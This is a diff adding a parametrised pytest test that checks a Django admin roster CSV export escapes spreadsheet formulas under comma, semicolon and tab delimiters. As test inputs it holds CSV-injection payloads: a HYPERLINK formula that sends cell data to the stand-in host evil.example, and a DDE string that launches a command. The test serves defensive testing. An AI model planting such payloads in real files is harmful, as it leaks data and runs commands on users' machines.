@@ -81,6 +81,38 @@ def test_the_roster_csv_neutralises_cells_a_spreadsheet_would_run(superuser_clie
     assert row["rep_email"] == rep.email
 
 
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+def cells(text: str, delimiter: str) -> list[str]:
+    return [
+        cell.strip() for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
+    ]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_the_roster_csv_is_a_formula_whatever_the_separator(
+    superuser_client, sandbox, delimiter
+):
+    connection = steps.connect_rep(sandbox, "zoom-semicolon@example.com")
+    rep = connection.user
+    # Read with ";" (the European default) or tab, a value splits at them into new cells.
+    rep.first_name = 'Ann;=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rep.last_name = "Smith\t+cmd|' /C calc'!A0"
+    rep.save()
+    ZoomConnection.objects.filter(pk=connection.pk).update(last_error="failed, -2+3; @SUM(1)")
+
+    response = run_action(superuser_client, "export_csv", rep, follow=False)
+
+    shown = cells(response.content.decode(), delimiter)
+    assert shown and not [cell for cell in shown if cell.startswith(FORMULA_STARTS)]
+    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert (
+        row["rep_name"]
+        == "Ann;'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") Smith\t'+cmd|' /C calc'!A0"
+    )
+
+
 def test_deleting_a_zoom_connection_in_the_admin_revokes_its_grant_first(superuser_client, sandbox):
     connection = steps.connect_rep(sandbox, "zoom-keep@example.com")
     url = f"/admin/zoom/zoomconnection/{connection.pk}/delete/"
